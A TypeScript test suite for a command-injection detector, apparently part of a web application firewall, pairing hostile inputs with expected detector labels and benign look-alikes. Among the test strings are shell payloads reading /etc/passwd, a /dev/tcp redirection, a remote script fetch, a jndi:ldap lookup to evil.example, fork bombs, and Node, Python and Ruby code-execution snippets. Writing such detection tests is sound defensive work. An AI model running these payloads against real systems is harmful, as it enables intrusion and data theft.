import type { InspectedValue, Paranoia } from '../types';
import { rceDetector } from './rce.detector';

function inspect(text: string, paranoia: Paranoia = 1, point = 'query.q') {
  const value: InspectedValue = { point, value: text, raw: text };
  return rceDetector.inspect(value, { paranoia });
}

describe('command injection detector', () => {
  it.each([
    ['a;id', 'rce/separator'],
    ['|id|', 'rce/separator'],
    ['1 && whoami', 'rce/separator'],
    ['x; cat /etc/passwd', 'rce/separator'],
    ['a);/usr/bin/id|', 'rce/separator'],
    ['$(whoami)', 'rce/substitution'],
    ['`uname -a`', 'rce/substitution'],
    ['x\nping -c 3 10.0.0.1', 'rce/separator'],
    [';c\'a\'t /etc/hosts', 'rce/separator'],
    ['1;w\\ho\\ami', 'rce/separator'],
    [';cat${IFS}/etc/passwd', 'rce/separator'],
    ['| dir c:\\', 'rce/separator'],
    ['& powershell -enc AAAA', 'rce/separator'],
    ['; Invoke-WebRequest http://x.example/a.ps1', 'rce/separator'],
    ['{cat,/etc/passwd}', 'rce/brace-expansion'],
    ['/e??/p?ss*', 'rce/glob'],
    ['() { :; }; /bin/bash -c id', 'rce/shellshock'],
    ['<!--#exec cmd="ls"-->', 'rce/ssi-exec'],
    ['FOR /L %G IN (1,1,5) DO echo %G', 'rce/batch'],
    ['time sh -c whoami', 'rce/separator'],
    ['echo x > /dev/tcp/10.0.0.1/80', 'rce/redirection'],
  ])('given %j, when inspected at paranoia 1, then it is command injection', (text, detector) => {
    const hit = inspect(text);
    expect(hit?.type).toBe('rce');
    expect(hit?.detector).toBe(detector);
    expect(hit?.point).toBe('query.q');
    expect(hit?.score).toBeGreaterThan(0.5);
  });

  it.each([
    "O'Reilly",
    'select the best option; more info below',
    'Tom & Jerry',
    'salt & pepper | fresh',
    'see above; time is short',
    'I love dogs; cats too',
    'Home | About | Contact',
    '$(document).ready(fn)',
    'jane.doe@example.com',
    'https://example.com/a?b=1&c=2',
    '{"a":1,"b":[1,2]}',
    '1 OR 2 items',
    'v1.2../3',
    'pico despuig',
    'python tutorial',
    'Opera/9.80 (MTK; Opera Mini/2.1199/34.1244; U; id) Presto/2.8.119',
    '2026-11-24T10:00:00Z',
    '3f2a9c1e-8b7d-4e2a-9f1c-2b3d4e5f6a7b',
    'dGhpcyBpcyBhIHRva2Vu',
    'If it exists, call me',
    'wait....what',
  ])('given the benign %j, when inspected at paranoia 1, then nothing fires', (text) => {
    expect(inspect(text, 1, text.startsWith('Opera') ? 'header.user-agent' : 'query.q')).toBeNull();
  });

  it.each([
    ['if (1) equ (1) echo hey', 'rce/batch'],
    ['IF        (2 GEQ 15)             echo "bigger"', 'rce/batch'],
    ['if not (2 equ 2) echo hey', 'rce/batch'],
    ['if (%1)==(LTRS) CD C:\\WORD\\LTRS', 'rce/batch'],
    ['FOR /F "tokens=1,2* delims=," %% IN (C:\\a.txt) DO ECHO %%', 'rce/batch'],
    ['alias +g+ a=b', 'rce/alias'],
    ['id;', 'rce/command-line'],
    ["x;trap 'rm -rf file.txt' SIGEXIT", 'rce/separator'],
    ['0.8462`echo crs312`', 'rce/substitution'],
    ['${:1337:-x$}{jndi:ldap://evil.example/x}', 'rce/parameter-expansion'],
    ["@{[system 'whoami']}", 'rce/perl-interpolation'],
    ['@{[keys %ENV]}', 'rce/perl-interpolation'],
    [':(){ :|:& };:', 'rce/fork-bomb'],
    ['www.example.com;c$!at /et$!c/pas$!swd', 'rce/separator'],
    ['x;who$?ami', 'rce/separator'],
    ['pi$()ng 127.0.0.1', 'rce/command-line'],
    ['whoami', 'rce/command-line'],
    ['IPCONFIG', 'rce/command-line'],
    ['pi<()ng 127.0.0.1', 'rce/command-line'],
    ['cu$@rl google.com', 'rce/command-line'],
    ['""p""y""t""h""o""n""3"".""1""0"" ""c""m""d""', 'rce/command-line'],
    ['1; sleep 10', 'rce/separator'],
    ['`sleep 5`', 'rce/substitution'],
    ["x' || sleep 5 #", 'rce/separator'],
    ['f(){ f|f& };f', 'rce/fork-bomb'],
  ])('given the command %j, when inspected at paranoia 1, then it is a %s hit', (text, detector) => {
    expect(inspect(text)?.detector).toBe(detector);
  });

  it.each([
    'if you want more (or less) tell me',
    'if (you) agree, go ahead',
    'it is what it is; id card needed',
    'identity;',
    "I'd like 2 items",
    'tired; sleep 8 hours tonight',
    'see `` quotes',
    'pwd',
    'uname',
    'id',
    'whoamI am',
    'a <() b',
    'He said ""hello"" twice',
    'sleep 10',
    "I'd rather not",
    'email me @ {home}',
    'a || b && c {x}',
    'see `npm test` for details',
    '${price}',
  ])('given the look-alike %j, when inspected at paranoia 1, then nothing fires', (text) => {
    expect(inspect(text)).toBeNull();
  });

  it.each([
    ['header.x-filename', '.htaccess'],
    ['header.x-filename', 'wp-config.php.bak'],
    ['header.x_filename', 'php.ini'],
    ['body.config#filename', 'config.yml '],
    ['header.x-file-name', 'mtrr'],
  ])('given the upload of a restricted file name at %s (%j), when inspected, then it is an rce/restricted-file-upload hit', (point, name) => {
    expect(inspect(name, 1, point)?.detector).toBe('rce/restricted-file-upload');
  });

  it.each([
    ['header.x-filename', 'holiday.jpg'],
    ['header.x-filename', 'my-wp-config-notes.jpg'],
    ['query.q', '.htaccess'],
  ])('given %s %j, when inspected, then no restricted upload fires', (point, name) => {
    expect(inspect(name, 1, point)?.detector).not.toBe('rce/restricted-file-upload');
  });

  it('given a command that is also a word, when it only follows a separator, then paranoia 2 takes it and 1 does not', () => {
    expect(inspect('news; more')).toBeNull();
    expect(inspect('news; more', 2)?.type).toBe('rce');
  });

  it('given a long hostile value, when inspected, then it returns quickly', () => {
    const text = ';'.repeat(4000) + 'a'.repeat(4000) + '{a,'.repeat(500);
    const started = process.hrtime.bigint();
    inspect(text, 4);
    expect(Number(process.hrtime.bigint() - started) / 1e6).toBeLessThan(200);
  });
  it.each([
    ["require('child_process').exec('id')", 'rce/node-require'],
    ['global.process.mainModule.require("child_process").execSync("ls")', 'rce/node-require'],
    ['child_process.spawn("sh", ["-c", "id"])', 'rce/node-child-process'],
    ['process.mainModule.constructor._load("fs")', 'rce/node-process'],
    ['#{process.binding(foo).spawn(foo2)}', 'rce/node-process'],
    ['process[mainModule', 'rce/node-process'],
    ['require[req.query.a', 'rce/node-process'],
    ['global.process.exit()', 'rce/node-process'],
    ['new Function("return process")()', 'rce/node-function'],
    ['this.constructor.constructor("return process")()', 'rce/sandbox-escape'],
    ["eval(Buffer.from('aWQ=','base64').toString())", 'rce/node-eval'],
    ['{"rce":"_$$ND_FUNC$$_function(){}()"}', 'rce/node-serialize'],
    ['while(true);', 'rce/infinite-loop'],
    ['while(!0)', 'rce/infinite-loop'],
    ["__import__('os').system('id')", 'rce/python-import'],
    ['os.system("cat /etc/passwd")', 'rce/python-os'],
    ["subprocess.check_output(['id'])", 'rce/python-subprocess'],
    ['Kernel.exec("id")', 'rce/ruby-exec'],
    ['Process.spawn("id")', 'rce/ruby-exec'],
    ['IO.popen("uname -a").read', 'rce/ruby-exec'],
    ['%x(whoami)', 'rce/ruby-exec'],
    ['Open3.capture2("id")', 'rce/ruby-exec'],
    ['globalThis["process"].exit()', 'rce/node-process'],
    ['{"then":"$1:__proto__:then","_formData":{"get":"$3:constructor:constructor"}}', 'rce/rsc-reference'],
    ['print qx{id}', 'rce/perl-exec'],
    ["perl -e 'system(\"id\")'", 'rce/system-call'],
  ])('given the injected code %j, when inspected at paranoia 1, then it is a command injection by %s', (text, detector) => {
    expect(inspect(text)?.detector).toBe(detector);
  });

  it.each([
    'We process orders within two days',
    'the process was slow; the system restarted',
    'Our operating system (Linux) is fine',
    'function of the form f(x)',
    'please require approval (manager)',
    'while (waiting) we talked',
    'while(true) { loop forever } is a bug in my code',
    'the eval (evaluation) is due',
    'Process improvement: faster spawn of workers',
    'Kernel panic in exec mode',
    'fs.readFileSync("config.json") throws ENOENT',
    'console.log(process.env.HOME)',
    'module.exports = router',
    'docs: see the child_process docs page',
    'price $12: prototype sale',
    'console.log is slow',
  ])('given the benign look-alike %j, when inspected at paranoia 1, then nothing fires', (text) => {
    expect(inspect(text)).toBeNull();
  });

  it.each([
    ['process.env', 'rce/node-process'],
    ['process["env"]', 'rce/node-process'],
    ['function() {', 'rce/node-code'],
    ['module.exports=', 'rce/node-code'],
    ['console.info(1)', 'rce/node-code'],
    ['console["info"](1)', 'rce/node-code'],
    ['console.info.call(this,1)', 'rce/node-code'],
  ])('given the whole value %j, a probe for a Node.js eval, when inspected at paranoia 1, then it is a %s hit', (text, detector) => {
    expect(inspect(text)?.detector).toBe(detector);
  });

  it('given Node.js code that does something, when inspected, then paranoia 2 takes it and 1 does not', () => {
    expect(inspect('console.log(process.env.HOME)')).toBeNull();
    expect(inspect('console.log(process.env.HOME)', 2)?.detector).toBe('rce/node-code');
    expect(inspect('module.exports = router')).toBeNull();
    expect(inspect('module.exports = router', 2)?.detector).toBe('rce/node-code');
    expect(inspect('process.env is how the app reads its settings')).toBeNull();
  });

  it.each([
    '__proto__[isAdmin]',
    '__proto__.test',
    'constructor.prototype.test',
    'constructor[prototype][test]',
    'a[constructor][prototype]',
    '{"title":{"__proto__":{"where":null}}}',
    '__proto__',
  ])('given the prototype pollution %j, when inspected at paranoia 1, then it is an rce/prototype-pollution hit', (text) => {
    expect(inspect(text)?.detector).toBe('rce/prototype-pollution');
  });

  it.each(['Array.prototype.map is handy', 'the prototype of the car', 'my_proto_file', 'constructor of the class'])(
    'given the look-alike %j, when inspected at paranoia 1, then no prototype pollution fires',
    (text) => {
      expect(inspect(text)?.detector).not.toBe('rce/prototype-pollution');
    },
  );
});
